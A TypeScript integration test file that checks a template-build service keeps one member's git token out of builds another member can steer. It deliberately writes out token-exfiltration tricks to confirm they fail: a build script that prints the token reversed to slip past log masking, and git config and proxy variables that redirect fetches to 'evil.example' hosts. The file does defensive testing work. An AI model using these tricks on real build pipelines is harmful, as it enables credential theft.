import type { UploadResult } from "@burstflare/sdk/schemas/templates";
import { describe, expect, it } from "vitest";
import { targz } from "../helpers/tar";
import { createTemplate, createVersion, finished, upload, waitForBuild } from "../helpers/templates";
import { call, createTestUser, type TestUser } from "../helpers/users";

const HOST = "git.example.test";
const REPO = `https://${HOST}/org/repo.git`;
const reversed = (s: string) => [...s].reverse().join("");

async function storeToken(user: TestUser): Promise<string> {
  const token = `ghp_${crypto.randomUUID().replace(/-/g, "")}`;
  expect((await call("POST", "/api/me/git-credential", { user, body: { host: HOST, token } })).status).toBe(200);
  return token;
}

/**
 * A bundle that needs no network: its ~/.gitconfig (HOME is the workspace) turns the manifest's
 * repository into an empty one it carries, so the clone succeeds; then build.sh runs.
 */
const bundleWith = (buildScript: string) =>
  targz([
    { name: ".gitconfig", content: `[url "empty.git"]\n\tinsteadOf = ${REPO}\n` },
    { name: "empty.git/HEAD", content: "ref: refs/heads/main\n" },
    { name: "empty.git/config", content: "[core]\n\trepositoryformatversion = 0\n\tbare = true\n" },
    { name: "empty.git/objects", type: "dir" },
    { name: "empty.git/refs/heads", type: "dir" },
    { name: "build.sh", content: buildScript },
  ]);
/** Prints the git token reversed, which the log's mask does not recognise, and whether the manifest turned TLS checks off. */
const hostileBundle = () =>
  bundleWith('printf "token: %s\\n" "$(printf %s "$BF_GIT_TOKEN" | rev)"\nprintenv GIT_SSL_NO_VERIFY || echo "no-verify unset"\n');

async function finishedLog(user: TestUser, buildId: string): Promise<string> {
  await waitForBuild(user, buildId, finished);
  return (await call("GET", `/api/template-builds/${buildId}/log`, { user })).text();
}

describe("a build gets a git token only of the member who wrote both its manifest and its bundle", () => {
  it("an admin who uploads the bundle of the owner's version gets no token in the build: neither the owner's nor their own", async () => {
    const owner = await createTestUser();
    const ownerToken = await storeToken(owner);
    const admin = await createTestUser({ workspaceId: owner.workspaceId, role: "admin" });
    const adminToken = await storeToken(admin);
    const tpl = await createTemplate(owner);
    // The owner's version: a private repository and a build step that runs the project's script. Its
    // env is the owner's: it may not steer git with the token of whoever uploads the bundle.
    const created = await createVersion(owner, tpl.id, "1", {
      persistedPaths: ["."],
      git: { url: REPO },
      build: "sh build.sh",
      env: { GIT_SSL_NO_VERIFY: "1" },
    });
    // Any member who may write templates gets a fresh grant for a version awaiting its bundle.
    const grant = await call("POST", `/api/templates/${tpl.id}/versions/${created.version.id}/upload-grant`, { user: admin });
    expect(grant.status).toBe(201);
    const res = await upload(admin, ((await grant.json()) as { id: string }).id, await hostileBundle());
    expect(res.status).toBe(201);

    const log = await finishedLog(admin, ((await res.json()) as UploadResult).build.id);
    // Before, the build ran the admin's bundle with the owner's token: the log showed it reversed. Nor
    // may the owner's build command run with the admin's token: the owner wrote it, not the admin.
    expect(log).not.toContain(reversed(ownerToken));
    expect(log).not.toContain(reversed(adminToken));
    expect(log).toContain("token: \n");
    expect(log).toContain("cloning without a git token");
    expect(log).toContain("no-verify unset");
  });

  it("an admin's workspace secrets cannot steer git in a build that carries another member's token", async () => {
    const owner = await createTestUser();
    await storeToken(owner);
    const admin = await createTestUser({ workspaceId: owner.workspaceId, role: "admin" });
    // Git reads GIT_CONFIG_PARAMETERS as configuration: a URL rewrite to another host and a credential
    // helper there would hand it the owner's token at the build step's next fetch (a submodule, a git
    // dependency). A proxy with certificate checks off would read it on the way.
    const secrets = {
      GIT_CONFIG_PARAMETERS: "'url.https://evil.example/.insteadof'='https://git.example.test/'",
      GIT_SSL_NO_VERIFY: "1",
      HTTPS_PROXY: "http://proxy.evil.example:3128",
      NPM_TOKEN: "npm_kept_for_the_build",
    };
    for (const [name, value] of Object.entries(secrets)) {
      expect((await call("PUT", "/api/workspaces/current/secrets", { user: admin, body: { name, value } })).status).toBe(200);
    }
    const tpl = await createTemplate(owner);
    const created = await createVersion(owner, tpl.id, "1", { persistedPaths: ["."], git: { url: REPO }, build: "sh build.sh" });
    const script = [
      "git config --list | grep -i evil",
      'printenv GIT_CONFIG_PARAMETERS GIT_SSL_NO_VERIFY HTTPS_PROXY || echo "steering variables unset"',
      'printenv NPM_TOKEN > /dev/null && echo "other secrets set"',
      'test -n "$BF_GIT_TOKEN" && echo "token present"',
    ].join("\n");
    const res = await upload(owner, created.uploadGrant.id, await bundleWith(`${script}\n`));
    expect(res.status).toBe(201);

    const log = await finishedLog(owner, ((await res.json()) as UploadResult).build.id);
    expect(log).toContain("token present");
    expect(log).not.toContain("evil.example");
    expect(log).toContain("steering variables unset");
    expect(log).toContain("other secrets set");
  });
});
